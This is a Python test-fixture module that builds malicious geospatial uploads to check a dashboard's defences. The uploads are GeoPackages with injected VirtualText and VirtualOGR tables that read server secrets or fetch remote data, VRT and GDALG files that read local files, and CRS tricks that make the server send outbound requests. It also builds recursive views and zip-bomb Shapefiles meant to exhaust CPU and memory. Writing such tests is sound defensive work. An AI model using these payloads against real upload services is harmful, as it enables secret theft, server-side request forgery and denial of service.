"""Uploads an attacker would send (issue #12), built byte by byte for the tests and `make soak`.

Each function returns the bytes of one file. `url` is where a file tries to make the server
send a request (a loopback listener in the tests); `secret_path` a server file it tries to read.
"""

from __future__ import annotations

import io
import json
import math
import sqlite3
import struct
import tempfile
import warnings
import zipfile
from pathlib import Path

import geopandas as gpd
import pyogrio
from shapely.geometry import Point

MARS_GEOGCS = ('GEOGCS["Mars 2000",DATUM["D_Mars_2000",SPHEROID["Mars_2000_IAU_IAG",3396190.0,169.894447223612]],'
               'PRIMEM["Reference_Meridian",0.0],UNIT["Degree",0.0174532925199433]]')
LOCAL_CS = 'LOCAL_CS["Site grid",LOCAL_DATUM["Site",0],UNIT["metre",1],AXIS["X",EAST],AXIS["Y",NORTH]]'


def markdown_crs(url: str) -> str:
    """A Mercator .prj whose name is Markdown: bold, a link and a remote picture."""
    name = f"**bold** [a link]({url}/link) ![picture]({url}/picture.png)"
    return (f'PROJCS["{name}",GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],'
            'PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],PROJECTION["Mercator_1SP"],'
            'PARAMETER["central_meridian",0],PARAMETER["scale_factor",1],PARAMETER["false_easting",0],'
            'PARAMETER["false_northing",0],UNIT["metre",1]]')


def proj4_grid_crs(url: str) -> str:
    """A .prj with a PROJ.4 extension that names a grid on the web (PROJ fetches it if networked)."""
    return ('PROJCS["Mercator with a remote grid",GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,'
            '298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],PROJECTION["Mercator_1SP"],'
            'PARAMETER["central_meridian",0],PARAMETER["scale_factor",1],PARAMETER["false_easting",0],'
            'PARAMETER["false_northing",0],UNIT["metre",1],'
            f'EXTENSION["PROJ4","+proj=merc +a=6378137 +b=6378137 +nadgrids={url}/grid.tif +wktext +no_defs"]]')


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def shapefile_zip(frame: gpd.GeoDataFrame, prj: str | None = None) -> bytes:
    with tempfile.TemporaryDirectory() as folder, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "'crs' was not provided": a .prj of our own follows
        pyogrio.write_dataframe(frame, Path(folder) / "layer.shp")
        files = {p.name: p.read_bytes() for p in Path(folder).iterdir()}
    if prj is not None:
        files["layer.prj"] = prj.encode()
    return zipped(files)


def points(crs="EPSG:4326", xy=((70, 40), (71, 41))) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"name": [f"p{i}" for i in range(len(xy))]}, geometry=[Point(p) for p in xy], crs=crs)


def geojson(features, **extra) -> bytes:
    return json.dumps({"type": "FeatureCollection", **extra, "features": features}).encode()


def feature(geometry, **props) -> dict:
    return {"type": "Feature", "properties": props, "geometry": geometry}


# --- GeoPackages whose layer is a view or a virtual table ---------------------------------

def _geopackage(edit) -> bytes:
    """A real GeoPackage (one point layer 'base'), then `edit(connection)` adds the attack."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        pyogrio.write_dataframe(points(), path, layer="base")
        connection = sqlite3.connect(path)
        edit(connection)
        connection.commit()
        connection.close()
        return path.read_bytes()


def _add_layer(connection, name: str, select: str) -> None:
    connection.execute(f"CREATE VIEW {name} AS {select}")
    connection.execute(f"INSERT INTO gpkg_contents(table_name, data_type, identifier, srs_id) "
                       f"VALUES ('{name}', 'features', '{name}', 4326)")
    connection.execute(f"INSERT INTO gpkg_geometry_columns VALUES ('{name}', 'geom', 'POINT', 4326, 0, 0)")


def _virtual_table(connection, name: str, using: str) -> None:
    """A virtual table written straight into the schema (its module is SpatiaLite's, which
    Python's sqlite3 does not have): exactly what a hostile file can hold."""
    connection.execute("PRAGMA writable_schema = ON")
    sql = f"CREATE VIRTUAL TABLE {name} USING {using}"
    connection.execute("INSERT INTO sqlite_master(type, name, tbl_name, rootpage, sql) VALUES ('table', ?, ?, 0, ?)",
                       (name, name, sql))
    connection.execute("PRAGMA writable_schema = OFF")


def virtualtext_view_gpkg(secret_path: str) -> bytes:
    """The view over VirtualText that turned each line of a server file into a feature."""
    def edit(connection):
        _virtual_table(connection, "vt", f"VirtualText('{secret_path}', 'UTF-8', 0, POINT, NONE, ',')")
        _add_layer(connection, "leak", "SELECT ROWID AS fid, (SELECT geom FROM base LIMIT 1) AS geom, COL001 AS line FROM vt")
    return _geopackage(edit)


def endless_view_gpkg() -> bytes:
    """A layer that never ends: a recursive view without a limit."""
    return _geopackage(lambda c: _add_layer(
        c, "endless", "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) "
                      "SELECT x AS fid, (SELECT geom FROM base LIMIT 1) AS geom FROM n"))


def fat_text_view_gpkg() -> bytes:
    """98 KB that expand to 49 000 features of 30 KB text each."""
    return _geopackage(lambda c: _add_layer(
        c, "fat", "WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 49000) "
                  "SELECT x AS fid, (SELECT geom FROM base LIMIT 1) AS geom, printf('%.30000c', 'x') AS text FROM n"))


def virtualogr_sqlite(url: str, geopackage_id: bool = False) -> bytes:
    """A SQLite file whose table reads a Shapefile from the web through GDAL's VirtualOGR."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.sqlite"
        connection = sqlite3.connect(path)
        connection.execute("CREATE TABLE plain (id INTEGER PRIMARY KEY)")
        _virtual_table(connection, "remote", f"VirtualOGR('/vsicurl/{url}/remote.shp')")
        if geopackage_id:
            connection.execute("PRAGMA application_id = 1196444487")  # 'GPKG'
        connection.commit()
        connection.close()
        return path.read_bytes()


# --- geometries that cost CPU or memory -----------------------------------------------------

def self_crossing_polygon(vertices: int = 401) -> bytes:
    """A star whose edges all cross each other: the default make_valid took 81 s on 401."""
    step = 2 * math.pi * (vertices // 2) / vertices
    ring = [[70 + math.cos(i * step), 40 + math.sin(i * step)] for i in range(vertices)]
    return geojson([feature({"type": "Polygon", "coordinates": [ring + [ring[0]]]}, name="star")])


def repeated_square_ring(times: int = 10_000) -> bytes:
    """One ring going round the same square `times` times (make_valid: 28.6 s and 6.2 GB)."""
    square = [[70, 40], [71, 40], [71, 41], [70, 41]]
    return geojson([feature({"type": "Polygon", "coordinates": [square * times + [square[0]]]}, name="square")])


def nested_collection() -> bytes:
    point = {"type": "Point", "coordinates": [70, 40]}
    line = {"type": "LineString", "coordinates": [[70, 40], [71, 41]]}
    inner = {"type": "GeometryCollection", "geometries": [point, {"type": "GeometryCollection", "geometries": [line]}]}
    return geojson([feature({"type": "GeometryCollection", "geometries": [inner, point]}, name="nested")])


def crs_link_geojson(url: str) -> bytes:
    return geojson([feature({"type": "Point", "coordinates": [70, 40]}, name="p")],
                   crs={"type": "link", "properties": {"href": f"{url}/crs.wkt", "type": "ogcwkt"}})


# --- Shapefile zips whose headers promise too much -------------------------------------------

def _streamed_zip(members: dict[str, tuple[bytes, bytes, int]]) -> bytes:
    """A zip whose members are `head` then `chunk` repeated `times`: gigantic files in a few KB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, (head, chunk, times) in members.items():
            with archive.open(name, "w", force_zip64=True) as member:
                member.write(head)
                if not chunk:
                    continue
                block = chunk * max(1, (1 << 20) // len(chunk))
                full, rest = divmod(times * len(chunk), len(block))
                for _ in range(full):
                    member.write(block)
                member.write(block[:rest])
    return buffer.getvalue()


def _shp_header(shape_type: int, total_bytes: int) -> bytes:
    return (struct.pack(">7i", 9994, 0, 0, 0, 0, 0, total_bytes // 2) + struct.pack("<2i", 1000, shape_type)
            + struct.pack("<8d", 70, 40, 71, 41, 0, 0, 0, 0))


def huge_ring_zip(vertices: int = 12_000_000) -> bytes:
    """One polygon with a 12M-vertex ring (is_valid alone took over 45 s)."""
    content = 4 + 32 + 4 + 4 + 4 + 16 * vertices
    record = struct.pack(">2i", 1, content // 2) + struct.pack("<i4d2i", 5, 70, 40, 71, 41, 1, vertices) + struct.pack("<i", 0)
    shp_head = _shp_header(5, 100 + 8 + content) + record
    shx = _shp_header(5, 108) + struct.pack(">2i", 50, content // 2)
    return _streamed_zip({"ring.shp": (shp_head, struct.pack("<2d", 70.5, 40.5), vertices),
                          "ring.shx": (shx, b"", 0)})


def many_points_zip(count: int = 5_000_000) -> bytes:
    """5M points in a Shapefile (1.7 GB in the server before 'too many features')."""
    record = struct.pack(">2i", 1, 10) + struct.pack("<i2d", 1, 70.5, 40.5)
    index = struct.pack(">2i", 50, 10)
    return _streamed_zip({"points.shp": (_shp_header(1, 100 + 28 * count), record, count),
                          "points.shx": (_shp_header(1, 100 + 8 * count), index, count)})


def fat_dbf_zip(records: int = 40_000, fields: int = 20) -> bytes:
    """One point and a .dbf of `records` × `fields` × 254 characters (200 MB in a small zip)."""
    header = struct.pack("<4BIHH20x", 3, 126, 1, 1, records, 32 + 32 * fields + 1, 1 + 254 * fields)
    for number in range(fields):
        header += struct.pack("<11sc4xBB14x", f"F{number}".encode(), b"C", 254, 0)
    header += b"\r"
    point = struct.pack(">2i", 1, 10) + struct.pack("<i2d", 1, 70.5, 40.5)
    return _streamed_zip({
        "fat.shp": (_shp_header(1, 128) + point, b"", 0),
        "fat.shx": (_shp_header(1, 108) + struct.pack(">2i", 50, 10), b"", 0),
        "fat.dbf": (header, b" " + b"x" * 254 * fields, records),
    })


def geojson_as_shp_zip(url: str) -> bytes:
    """A GeoJSON (with a web CRS) named .shp inside a zip."""
    return zipped({"layer.shp": crs_link_geojson(url), "layer.dbf": b""})


# --- files that make GDAL read another file (an OGR VRT, a GDALG pipeline) -----------------

def vrt(path: str) -> str:
    return (f'<OGRVRTDataSource><OGRVRTLayer name="secret"><SrcDataSource>{path}</SrcDataSource>'
            '<SrcLayer>secret</SrcLayer><GeometryType>wkbPoint</GeometryType>'
            '<GeometryField encoding="WKT" field="WKT"/></OGRVRTLayer></OGRVRTDataSource>')


def outside_access_files(secret: str) -> dict[str, bytes]:
    """Whatever such a file looks like at its start, its data must never come back."""
    text = vrt(secret)
    return {
        "VRT behind a {": ("{" + text).encode(),
        "VRT in a GeoJSON string": ('{"type": "' + text.replace('"', "'") + '"}').encode(),
        "VRT with <kml in a comment": ("<!-- <kml -->" + text).encode(),
        "VRT as the .shp of a zip": zipped({"layer.shp": text.encode()}),
        "GDALG pipeline": json.dumps({"type": "gdal_streamed_alg", "command_line":
                                      f"gdal vector pipeline ! read {secret} ! write --of stream streamed_dataset"}).encode(),
    }


# --- every case above, as the tests and `make soak` send them ----------------------------

def attack_files(url: str, secret: str) -> dict[str, tuple[bytes, str | None]]:
    """name -> (file, the refusal expected, or None if it is accepted)."""
    mercator = points("EPSG:3857", ((7.8e6, 4.9e6), (7.9e6, 5.0e6)))
    return {
        "VirtualText view": (virtualtext_view_gpkg(secret), "holds a virtual table"),
        "VirtualText view, relative path": (virtualtext_view_gpkg(".streamlit/secrets.toml"), "virtual table"),
        "endless view": (endless_view_gpkg(), "holds a view"),
        "fat-text view": (fat_text_view_gpkg(), "holds a view"),
        "self-crossing polygon": (self_crossing_polygon(), None),
        "repeated-square ring": (repeated_square_ring(), "needs more work than the dashboard allows"),
        "12M-vertex zip": (huge_ring_zip(), "12,000,003 vertices"),
        "fat .dbf zip": (fat_dbf_zip(), "attribute table is over 50 MB"),
        "5M-point zip": (many_points_zip(), "5,000,000 features"),
        "GeoJSON with a CRS link": (crs_link_geojson(url), "names it by a web address"),
        "VirtualOGR SQLite": (virtualogr_sqlite(url), "not a GeoPackage"),
        "VirtualOGR with a GeoPackage id": (virtualogr_sqlite(url, geopackage_id=True), "virtual table"),
        "GeoJSON disguised as .shp": (geojson_as_shp_zip(url), "is not a Shapefile"),
        "Markdown CRS name": (shapefile_zip(mercator, markdown_crs(url)), None),
        "Mars CRS": (shapefile_zip(points(None), MARS_GEOGCS), "'` Mars 2000 `'"),
        "LOCAL_CS": (shapefile_zip(points(None), LOCAL_CS), "cannot be converted"),
        "PROJ4 grid on the web": (shapefile_zip(mercator, proj4_grid_crs(url)), "cannot be converted"),
        "nested GeometryCollection": (nested_collection(), None),
        **{name: (data, "") for name, data in outside_access_files(secret).items()},  # any refusal
    }
